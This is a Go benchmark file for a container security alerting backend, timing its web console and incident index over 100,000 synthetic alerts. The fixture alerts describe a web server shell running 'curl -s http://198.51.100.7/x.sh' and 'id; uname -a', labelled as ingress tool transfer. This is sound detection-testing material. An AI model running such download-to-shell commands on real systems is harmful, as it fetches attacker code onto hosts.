package backend

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"runtime"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/harrier-sec/harrier/api"
)

// benchAlert is alert i of a site with 100 000 alerts: 20 000 attack
// stories of five alerts, each in its own container, spread over 50 nodes
// and a week, with ancestry and one evidence event like real alerts.
func benchAlert(i int) *api.Alert {
	story, step := i/5, i%5
	node := fmt.Sprintf("node-%02d", story%50)
	at := t0.Add(time.Duration(story) * 30 * time.Second).Add(time.Duration(step) * 10 * time.Second)
	shell := &api.Ancestor{Pid: uint32(100000 + story), Exe: "/bin/sh", Args: []string{"sh", "-c", "id; uname -a"}, StartTime: timestamppb.New(at)}
	httpd := &api.Ancestor{Pid: uint32(50000 + story), Exe: "/usr/sbin/httpd", Args: []string{"httpd", "-DFOREGROUND"}, StartTime: timestamppb.New(at.Add(-time.Hour))}
	shim := &api.Ancestor{Pid: uint32(40000 + story), Exe: "/usr/bin/containerd-shim-runc-v2", Args: []string{"containerd-shim-runc-v2", "-namespace", "k8s.io"}}
	proc := &api.Process{Tgid: uint32(200000 + i), Exe: "/usr/bin/curl", Args: []string{"curl", "-s", "http://198.51.100.7/x.sh"},
		StartTime: timestamppb.New(at), Uid: 33}
	c := &api.Container{Runtime: "containerd", Id: fmt.Sprintf("%064x", story), Image: fmt.Sprintf("registry.example/shop/web:%d", story%40),
		PodName: fmt.Sprintf("web-%d", story), PodNamespace: fmt.Sprintf("ns-%d", story%30), PodUid: fmt.Sprintf("uid-%d", story)}
	return &api.Alert{Id: fmt.Sprintf("alert-%06d", i), DetectionId: fmt.Sprintf("detection-%d", step*7%23), Name: "Download to a shell",
		Severity: api.Severity(1 + (i % 5)), Node: node, Cluster: "prod", Count: uint64(1 + i%3),
		FirstSeen: timestamppb.New(at), LastSeen: timestamppb.New(at.Add(time.Second)), Container: c, Process: proc,
		Ancestry: []*api.Ancestor{shell, httpd, shim}, Summary: "curl -s http://198.51.100.7/x.sh by www-data in web",
		Mitre: []*api.Mitre{{Tactic: tacticOrder[2+step], TechniqueId: "T1105", Technique: "Ingress Tool Transfer"}},
		Evidence: []*api.Event{{Time: timestamppb.New(at), Node: node, Kind: api.EventKind_EVENT_KIND_EXEC, Process: proc,
			Ancestry: []*api.Ancestor{shell, httpd, shim}, Container: c}}}
}

// BenchmarkConsole100k stores 100 000 alerts through Ingest and times what
// the issue bounds at 200 ms: the alert list and an incident page, each a
// full HTTP request to the UI (render included), plus the incident list and
// reopening the store (rebuilding the incident index). Run:
//
//	go test -run '^$' -bench Console100k -benchtime 20x ./backend/
func BenchmarkConsole100k(b *testing.B) {
	const alerts, batch = 100_000, 1000
	dir := b.TempDir()
	s, err := OpenBadgerStoreConfig(BadgerConfig{Dir: dir}, nil)
	if err != nil {
		b.Fatal(err)
	}
	ctx := context.Background()
	for start := 0; start < alerts; start += batch {
		bt := &api.Batch{Records: make([]*api.Record, 0, batch)}
		for i := start; i < start+batch; i++ {
			bt.Records = append(bt.Records, alertRec(uint64(i+1), benchAlert(i)))
		}
		if _, err := s.Ingest(ctx, "bench", bt); err != nil {
			b.Fatal(err)
		}
	}
	incs, err := s.Incidents(ctx, IncidentQuery{Limit: 1})
	if err != nil || len(incs) != 1 {
		b.Fatalf("incidents: %v %v", incs, err)
	}
	if all := s.incidents.list(IncidentQuery{Limit: MaxLimit}); len(s.incidents.incidents) != alerts/5 {
		b.Fatalf("%d incidents, want %d (first: %+v)", len(s.incidents.incidents), alerts/5, all[0])
	}

	srv := httptest.NewServer(NewAPI(s, APIConfig{Token: testToken, Now: func() time.Time { return t0.Add(8 * 24 * time.Hour) }}, slog.New(slog.DiscardHandler)))
	defer srv.Close()
	get := func(b *testing.B, path string) {
		req, _ := http.NewRequest(http.MethodGet, srv.URL+path, nil)
		req.Header.Set("Authorization", "Bearer "+testToken)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			b.Fatal(err)
		}
		n, _ := io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		if resp.StatusCode != http.StatusOK || n < 1000 {
			b.Fatalf("%s: %d, %d bytes", path, resp.StatusCode, n)
		}
	}
	for _, tc := range []struct{ name, path string }{
		{"alert-list", "/"},
		{"alert-list-filtered", "/?severity=high&node=node-07"},
		{"alert-list-api-1000", "/api/v1/alerts?limit=1000"},
		{"incident-list", "/incidents"},
		{"incident-page", "/incidents/" + incs[0].ID},
		{"alert-page", "/alerts/alert-050000"},
	} {
		b.Run(tc.name, func(b *testing.B) {
			for b.Loop() {
				get(b, tc.path)
			}
			b.ReportMetric(float64(b.Elapsed().Milliseconds())/float64(b.N), "ms/page")
		})
	}
	if err := s.Close(); err != nil {
		b.Fatal(err)
	}
	b.Run("reopen", func(b *testing.B) {
		for b.Loop() {
			s, err := OpenBadgerStoreConfig(BadgerConfig{Dir: dir}, nil)
			if err != nil {
				b.Fatal(err)
			}
			if n := len(s.incidents.incidents); n != alerts/5 {
				b.Fatalf("%d incidents after reopen", n)
			}
			_ = s.Close()
		}
	})
}

// BenchmarkIncidentIndex100k files 100 000 alerts into a fresh incident
// index (what ingest adds per alert, and what reopening a store replays)
// and reports the index's heap.
func BenchmarkIncidentIndex100k(b *testing.B) {
	const n = 100_000
	alerts := make([]*api.Alert, n)
	for i := range alerts {
		alerts[i] = benchAlert(i)
		alerts[i].Evidence = nil
	}
	var heapMiB float64
	for b.Loop() {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		x := newIncidentIndex(0)
		for _, a := range alerts {
			x.add(a)
		}
		runtime.GC()
		runtime.ReadMemStats(&after)
		heapMiB = float64(after.HeapAlloc-before.HeapAlloc) / (1 << 20)
		if len(x.incidents) != n/5 {
			b.Fatalf("%d incidents", len(x.incidents))
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*n), "ns/alert")
	b.ReportMetric(heapMiB, "index-MiB")
}
